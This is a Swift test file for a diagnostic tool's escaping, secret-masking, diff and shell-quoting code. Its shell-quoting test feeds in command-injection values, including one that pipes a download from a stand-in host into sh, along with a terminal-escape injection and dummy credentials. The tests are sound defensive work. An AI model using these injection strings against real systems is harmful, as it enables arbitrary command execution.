import Foundation
import Machine
import Testing

@testable import Diagnosis

@Suite struct TextTests {
    @Test(arguments: [
        ("plain", "plain"), ("\u{1b}[31mred\u{7}", "\\x1b[31mred\\x07"), ("tab\tnew\nline", "tab\\x09new\\x0aline"),
        ("über", "über"),
        ("a\u{202e}b", "a\\u{202e}b"), ("\u{9b}2J", "\\u{9b}2J"),
    ])
    func `control characters are shown, not sent`(text: String, expected: String) {
        #expect(TextEscape.terminal(text) == expected)
    }

    @Test func `invalid UTF-8 is shown as such`() {
        #expect(TextEscape.terminal([0x61, 0xff, 0x62] as [UInt8]) == "a\\x??b")
    }

    @Test func `HTML is escaped`() {
        #expect(TextEscape.html("<b>\"&'\u{1b}") == "&lt;b&gt;&quot;&amp;&#39;\\x1b")
    }

    @Test(arguments: [
        ("postgres://app:hunter2@db/x", "postgres://***@db/x"),
        ("DB_PASSWORD=hunter2 PORT=3000", "DB_PASSWORD=*** PORT=3000"),
        ("Authorization: Bearer abc.def", "Authorization: Bearer ***"),
        ("GET /?api_key=123&x=1", "GET /?api_key=***&x=1"),
        ("--password hunter2 --port 3000", "--password *** --port 3000"),
        ("http://host:80/path@x", "http://host:80/path@x"),
        ("DB_PASSWORD=\"hunter2 x\" PORT=3000", "DB_PASSWORD=\"***\" PORT=3000"),
        ("--password 'hunter2' --port 3000", "--password '***' --port 3000"),
        ("{\"password\":\"hun\\\"ter2\",\"port\":1}", "{\"password\":\"***\",\"port\":1}"),
        ("{\\\"token\\\": \\\"hunter2\\\"}", "{\\\"token\\\": \\\"***\"}"),
        ("Cookie: theme=x; sid=SECRET", "Cookie: ***"), ("Authorization: Token abc", "Authorization: ***"),
        ("curl -H 'Authorization: Token abc' http://x", "curl -H 'Authorization: ***' http://x"),
        ("{\"authorization\": \"Bearer abc\", \"x\": 1}", "{\"authorization\": \"Bearer ***\", \"x\": 1}"),
        ("password = hunter2 port = 3000", "password = *** port = 3000"), ("secret: 'open", "secret: '***"),
        ("password for user=root", "password for user=root"), ("token:", "token:"),
        ("STRIPE_KEY=sk_live_1 DB_PASS=x PGPASS=y encryptionKey=z", "STRIPE_KEY=*** DB_PASS=*** PGPASS=*** encryptionKey=***"),
        ("password: two words", "password: ***"), ("password: two words, user: bob", "password: ***, user: bob"),
        ("proxy_set_header Authorization \"Bearer abc\";", "proxy_set_header Authorization \"Bearer ***\";"),
        ("proxy_set_header X-Api-Key abc;", "proxy_set_header X-Api-Key ***;"),
        ("proxy_set_header Cookie $http_cookie;", "proxy_set_header Cookie $http_cookie;"),
        ("fastcgi_param DB_PASS x;\n+    listen 80;", "fastcgi_param DB_PASS ***;\n+    listen 80;"),
        ("set $api_key abc;", "set $api_key ***;"), ("proxy_pass http://a;", "proxy_pass http://a;"),
        ("a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b", "a -----BEGIN RSA PRIVATE KEY-----*** b"),
        ("-----BEGIN PRIVATE KEY-----MIIE", "-----BEGIN PRIVATE KEY-----***"),
        ("MIIEpAIBAAKCAQEA7bq5Vx3J0mZ0y1Qw9oP2rS4tU6vW8xY0zA1bC3dE5fG7hI9j", "***"),
        ("secure_link_secret abc;", "secure_link_secret ***;"), ("if ($http_x_token != \"X\") {", "if ($http_x_token != \"***\") {"),
        ("if ($http_authorization != \"Bearer X\") {", "if ($http_authorization != \"Bearer ***\") {"),
        ("if ($http_x_token ~* \"^X\") {", "if ($http_x_token ~* \"***\") {"), ("if ($arg_token !~ ^X) {", "if ($arg_token !~ *** {"),
        ("location ~ ^/token { }", "location ~ ^/token { }"), ("proxy_cache_key $host$uri;", "proxy_cache_key $host$uri;"),
        ("proxy_pass http://oauth2-proxy:4180;", "proxy_pass http://oauth2-proxy:4180;"), ("server auth:3000;", "server auth:3000;"),
        ("12 × pool.empty at auth:3000", "12 × pool.empty at auth:3000"), ("http://session-store:6379/0", "http://session-store:6379/0"),
        ("supervisorctl restart auth:auth_00", "supervisorctl restart auth:auth_00"),
        ("supervisorctl restart monkey:monkey_00", "supervisorctl restart monkey:monkey_00"),
        ("http://auth:1234@host/", "http://***@host/"), ("password:1234", "password:***"), ("DB_PASS:12", "DB_PASS:***"),
        ("token:123456", "token:***"), ("auth:3000x", "auth:***"), ("{\"token\":1234}", "{\"token\":***"), ("auth: 12345", "auth: ***"),
        ("\"authToken\" => \"SECRET\", \"x\" => 1", "\"authToken\" => \"***\", \"x\" => 1"), (":token=>'x'", ":token=>'***'"),
        ("GET /?password=SEC9,SECA;SECB&x=1", "GET /?password=***&x=1"), ("/?a=1&token=a;b#top", "/?a=1&token=***#top"),
        ("/go?redirect=%2Fcb%3Ftoken%3DSECRET%26x%3D1 HTTP", "/go?redirect=%2Fcb%3Ftoken%3D***%26x%3D1 HTTP"),
        ("/go?u=%252Fcb%253Fa%253D1%2526code%253DSECRET", "/go?u=%252Fcb%253Fa%253D1%2526code%253D***"),
        ("/go?u=%2Fcb%3Fcode%3dSECRET&x=1", "/go?u=%2Fcb%3Fcode%3d***&x=1"), ("/a%3Db?x=100%", "/a%3Db?x=100%"),
        ("Cookie: a=b", "Cookie: ***"), ("nothing here", "nothing here"), ("MemoryMax=60M", "MemoryMax=60M"),
    ])
    func `secrets are masked`(text: String, expected: String) {
        #expect(SecretMask.mask(text) == expected)
    }

    @Test func `a command stays on one line`() {
        let command: ShellCommand =
            "curl -s http://127.0.0.1:3000/ | awk '{ print length($0), \"of a long line\" }' | sort -n | uniq -c | sort -n | tail -n 20"
        let rule = Rule(number: 99, slug: "x", title: "x", depth: 1, reasons: [.connectRefused]) { _, _ in
            .finding(Finding(.firm, Culprit(.process, "app"), "x", evidence: [], disproof: "", fix: Fix("x", commands: [command])))
        }
        let verdict = VerdictEngine.judge(Scene("a:1", [.connectRefused: 1]).failure, evidence: EvidenceSet(), rules: [rule])
        #expect(VerdictText.render(verdict).contains("            $ \(command.text)\n"))
    }

    @Test func `a diff of an edit is accepted by patch`() throws {
        let text = (1...20).map { "line \($0)" }.joined(separator: "\n") + "\n"
        let diff = try #require(
            UnifiedDiff.make(
                file: "f.conf", text: text,
                changes: [
                    .init(line: 3, inserting: ["three"]), .init(line: 5, removing: 0, inserting: ["new", "newer"]),
                    .init(line: 20, removing: 1, inserting: []),
                ]))
        let folder = NSTemporaryDirectory() + "diff-\(UInt64.random(in: 0 ... .max))"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        try Data(text.utf8).write(to: URL(fileURLWithPath: folder + "/f.conf"))
        try Data(diff.utf8).write(to: URL(fileURLWithPath: folder + "/d"))
        _ = try Subprocess.run(["patch", "-p1", "-d", folder, "-i", folder + "/d"], deadline: 5_000, limit: 1_000)
        let result = try String(contentsOfFile: folder + "/f.conf", encoding: .utf8).split(separator: "\n").map(
            String.init)
        #expect(result == ["line 1", "line 2", "three", "line 4", "new", "newer"] + (5...19).map { "line \($0)" })
    }

    @Test func `a diff is refused when the text is not there any more`() {
        #expect(UnifiedDiff.make(Fix.Edit(file: "f", line: 2, from: "gone", to: "x"), text: "a\nb\nc\n") == nil)
        #expect(UnifiedDiff.make(file: "f", text: "a\n", changes: [.init(line: 9, inserting: [])]) == nil)
        #expect(
            UnifiedDiff.make(Fix.Edit(file: "f", line: 1, from: "b", to: "x"), text: "a\nb\nc\n")?.contains("-b\n+x\n")
                == true)
    }

    @Test func `a verdict's page tells everything and breaks its lines`() {
        var scene = Scene("127.0.0.1:3000", [.connectRefused: 7])
        scene.unit("app.service", ["ActiveState": "failed", "ExecStart": "argv[]=x --port 3000 \u{1b}]0;evil ; "])
        let text = VerdictText.render(scene.judge(), width: 80)
        for label in ["verdict", "reason", "culprit", "cause", "evidence", "fix", "wrong if", "more"] {
            #expect(text.contains("\n" + label) || text.hasPrefix(label), "\(label)")
        }
        #expect(!text.contains("\u{1b}"))
        let long = text.split(separator: "\n").filter {
            $0.count > 80 && $0.dropFirst(12).contains(" ") && !$0.contains("$ ")
        }
        #expect(long.isEmpty, "\(long)")
    }

    /// Whatever is put into a command is one word of the shell.
    @Test(arguments: [
        "x;id", "$({curl,evil.example}|sh)", "`id`", "a b", "it's", "", "a\nb", "*", "~root", "a&b", "-rf", "é\u{202e}x",
        "\"", "\\", "#a", "!!",
    ])
    func `a command keeps a value in one word`(value: String) throws {
        let command: ShellCommand = "printf [%s] \(value) \(7) | cat"
        let output = try Subprocess.run(["/bin/sh", "-c", command.text], deadline: 5_000, limit: 1_000)
        let words = value.hasPrefix("-") ? "[--][\(value)][7]" : "[\(value)][7]"
        #expect(String(decoding: output, as: UTF8.self) == words)
        #expect((try? Subprocess.run(["/bin/sh", "-c", ShellCommand(words: ["printf", "[%s]", value]).text], deadline: 5_000, limit: 1_000))
            == Array("[\(value)]".utf8))
    }

    @Test func `plain words stay plain`() {
        let host = "a-b.example:80"
        let restart: ShellCommand = "systemctl restart \("app@1.service")"
        let command: ShellCommand = "ss -ltn 'sport = :\(80)' \(host) /run/\("x") && \(restart)"
        #expect(command.text == "ss -ltn 'sport = :80' a-b.example:80 /run/x && systemctl restart app@1.service")
    }

    /// A log is read line by line, and the last line of a key is short.
    @Test(arguments: ["", "    ", "  - ", "2026-11-23T23:40:59.437Z a.0 err ", "Nov 23 10:00:00 host app[12]: ", "  | "])
    func `the lines of a private key are hidden one by one`(indent: String) {
        let key = [
            "-----BEGIN EC PRIVATE KEY-----", "MHcCAQEEIIrYSSNQFaA2Hwf1duRSxKtLYX5CB04fSeQ6tF1aY", "PuRLxg==",
            "-----END EC PRIVATE KEY-----",
        ]
        let next = indent == "  - " ? "    " : indent, shown = next.contains { $0 != " " } ? next : ""
        let lines = ["ready"] + key.enumerated().map { ($0.offset == 0 ? indent : next) + $0.element } + ["ready"]
        let masked = SecretMask.mask(lines: lines)
        #expect(masked[2] == shown + "***" && masked[3] == shown + "***" && masked[0] == "ready" && masked[5] == "ready", "\(masked)")
        #expect(SecretMask.mask(lines: masked) == masked)
        // Others write in between, and the beginning may be cut off.
        let mixed = SecretMask.mask(lines: lines[1...2] + ["an app said two words."] + lines[3...])
        #expect(mixed[2] == "an app said two words." && mixed[3] == shown + "***", "\(mixed)")
        let long = String(repeating: "aB3+", count: 16)
        #expect(SecretMask.mask(lines: [next + long, next + "aB3=", lines[4], "ready"]).prefix(2) == [shown + "***", shown + "***"])
        #expect(SecretMask.mask(lines: ["ghp_0123456789abcdefghij", "Starting"]) == ["***", "Starting"])
        #expect(SecretMask.mask(lines: [next + long, next + long, next + "aB3+"]).allSatisfy { $0 == shown + "***" })
    }

    /// What comes after a long identifier, or after a text about keys, is what tells the cause.
    @Test(arguments: ["", "2026-11-23T23:40:59.437Z a.0 err "]) func `words behind a text about keys stay readable`(indent: String) {
        let identifier = String(repeating: "Zm9v", count: 16)
        let telling = ["connection refused", "Segmentation fault", "out of memory", "Starting", "error: EADDRINUSE", "No module named 'x'"]
        for first in ["S3 upload ok, host id \(identifier)1", "Error: key must begin with -----BEGIN PRIVATE KEY----- and then"] {
            let masked = SecretMask.mask(lines: [indent + first] + telling.map { indent + $0 })
            #expect(masked.dropFirst() == telling.map { indent + $0 }[...], "\(masked)")
        }
        // Whoever writes a key's first line and stops there hides a few words at most.
        let others = (0..<9).map { indent + "line \($0) ends" }
        let cut = SecretMask.mask(lines: [indent + "-----BEGIN PRIVATE KEY-----"] + others + ["Starting"])
        #expect(cut.last == "Starting", "\(cut)")
    }

    @Test(arguments: [
        (#"{"headers":{"Authorization":["Bearer zzz.yyy"],"Cookie":["s=secret]cookie","b"],"X-Auth-Token":["tok123"]},"id":[1]}"#,
         #"{"headers":{"Authorization":[***],"Cookie":[***],"X-Auth-Token":[***]},"id":[1]}"#),
        (#"msg="{\"Authorization\":[\"Bearer zzz\"],\"Host\":[\"a\"]}""#, #"msg="{\"Authorization\":[***],\"Host\":[\"a\"]}""#),
        ("token=[a b", "token=[***"), ("sent Bearer abcdefghijklmnopqrstuvwxyz to it", "sent Bearer *** to it"),
        ("bearer abcdefghijklmnop==", "bearer ***"), ("it asks for Bearer realm=\"x\"", "it asks for Bearer realm=\"x\""),
        ("  MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\r", "***"),
        ("got eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl.", "got ***"), ("Bearer eyJh is short", "Bearer eyJh is short"),
        ("ghp_0123456789abcdefghij", "***"), ("push by sk_live_0123456789abcdef, done", "push by ***, done"),
        ("xoxb-1234-5678-abcdefghijkl", "***"), ("the skill sk_live_ is short", "the skill sk_live_ is short"),
        ("AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG now", "*** now"), ("AKIAIOSFODNN7EXAMPLE", "***"),
        ("mysql -uroot -phunter2 app", "mysql -uroot -p*** app"),
        ("/usr/bin/mysqldump -p'hun ter' -h db", "/usr/bin/mysqldump -p'***' -h db"),
        ("mysql -p app", "mysql -p app"), ("sshpass -p hunter2 ssh a", "sshpass -p *** ssh a"),
        ("redis-cli -a pw! ping", "redis-cli -a *** ping"),
        ("curl -u bob:pw http://a/", "curl -u bob:*** http://a/"), ("curl --user=bob:pw", "curl --user=bob:***"),
        ("node -prof app.js", "node -prof app.js"), ("ss -p state", "ss -p state"),
        ("passwd 'hunter2' is weak", "passwd '***' is weak"), ("the password is wrong", "the password is wrong"),
        ("GET /reset?code=abc&sig=x/y&page=2 HTTP/1.1", "GET /reset?code=***&sig=***&page=2 HTTP/1.1"),
        ("Main process exited, code=exited, status=1", "Main process exited, code=exited, status=1"), ("state=failed", "state=failed"),
    ])
    func `secrets are hidden by their form, in lists and in options`(text: String, expected: String) {
        #expect(SecretMask.mask(text) == expected)
        #expect(SecretMask.mask(SecretMask.mask(text)) == SecretMask.mask(text))
    }
}
